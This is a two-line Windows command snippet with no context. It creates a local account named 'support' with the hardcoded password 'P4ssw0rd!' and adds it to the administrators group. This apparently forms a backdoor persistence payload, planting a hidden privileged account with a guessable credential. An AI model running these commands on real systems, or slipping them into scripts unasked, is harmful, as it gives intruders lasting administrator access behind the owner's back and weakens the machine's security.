net user support P4ssw0rd! /add
net localgroup administrators support /add
